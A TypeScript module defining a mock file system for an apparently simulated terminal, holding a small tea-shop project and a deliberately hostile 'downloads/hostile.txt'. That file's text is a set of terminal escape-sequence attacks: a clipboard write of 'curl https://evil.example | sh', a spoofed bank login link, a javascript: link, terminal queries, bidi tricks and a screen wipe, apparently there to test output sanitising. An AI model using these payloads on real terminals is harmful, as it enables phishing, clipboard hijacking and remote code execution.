/** The small file system that the shell shows: a shop, its logs, and a file that nobody should print. */

export type Entry = { readonly text: string } | { readonly entries: Readonly<Record<string, Entry>> }

export const HOME = '/home/ana'

const ESC = '\x1b'
const BEL = '\x07'

/** What a hostile file says to whoever prints it: it wants the clipboard, another title, a click, an answer, and the screen. */
const HOSTILE_TEXT = [
  'An honest line.',
  `${ESC}]52;c;${btoa('curl https://evil.example | sh')}${BEL}It wrote to the clipboard.`,
  `${ESC}]52;c;?${BEL}It asked for the clipboard.`,
  `${ESC}]0;root@bank: # ${'!'.repeat(40)}${BEL}It named the window.`,
  `${ESC}]8;;https://evil.example/login${ESC}\\https://bank.example/login${ESC}]8;;${ESC}\\ is not where it says.`,
  `${ESC}]8;;javascript:alert(1)${ESC}\\Click here${ESC}]8;;${ESC}\\ for a script.`,
  `${ESC}[6n${ESC}[c${ESC}]10;?${BEL}${ESC}[21tIt asked the terminal who it is.`,
  `${ESC}[?1000h${ESC}[?2004hIt switched modes on.`,
  `${ESC}]1337;File=inline=1:AAAA${BEL}${ESC}P+q544e${ESC}\\It tried what only some terminals know.`,
  `abc\u202edefghi\u202c\u200bjkl has letters that nobody sees.`,
  `${ESC}[8mHidden words.${ESC}[0m ${ESC}[9999;9999H${ESC}[2J`,
  'And it wiped the screen.',
  '',
].join('\n')

const file = (text: string): Entry => ({ text })

const ROOT: Entry = {
  entries: {
    home: {
      entries: {
        ana: {
          entries: {
            shop: {
              entries: {
                'README.md': file('# Shop\n\nSells tea. Run `help` to see what this terminal can do.\n'),
                'package.json': file('{\n  "name": "shop",\n  "version": "2.4.1"\n}\n'),
                src: {
                  entries: {
                    'cart.ts': file('export const total = (prices: number[]) => prices.reduce((a, b) => a + b, 0)\n'),
                    'index.ts': file("import { total } from './cart.ts'\n\nconsole.log(total([3, 4, 5]))\n"),
                  },
                },
                logs: { entries: { 'deploy.log': file('build 42 ok\nbuild 43 ok\nbuild 44 failed: out of tea\n') } },
              },
            },
            'notes.txt': file('Buy tea.\nCall Bo.\n'),
            'お茶.txt': file('煎茶 300円\n抹茶 500円\n'),
            downloads: { entries: { 'hostile.txt': file(HOSTILE_TEXT) } },
          },
        },
      },
    },
  },
}

/** An absolute path without `.`, `..`, `~` and double slashes. */
export function resolvePath(cwd: string, path: string): string {
  const absolute = path === '~' || path.startsWith('~/') ? HOME + path.slice(1) : path.startsWith('/') ? path : `${cwd}/${path}`
  const parts: string[] = []
  for (const part of absolute.split('/')) {
    if (part === '..') parts.pop()
    else if (part !== '' && part !== '.') parts.push(part)
  }
  return `/${parts.join('/')}`
}

/** What lies at an absolute path, or null. */
export function lookUp(path: string): Entry | null {
  let entry: Entry | undefined = ROOT
  for (const part of path.split('/').filter((part) => part !== '')) {
    if (entry === undefined || 'text' in entry || !Object.hasOwn(entry.entries, part)) return null
    entry = entry.entries[part]
  }
  return entry ?? null
}

/** As a prompt writes it. */
export function shortPath(path: string): string {
  return path === HOME || path.startsWith(`${HOME}/`) ? `~${path.slice(HOME.length)}` : path
}
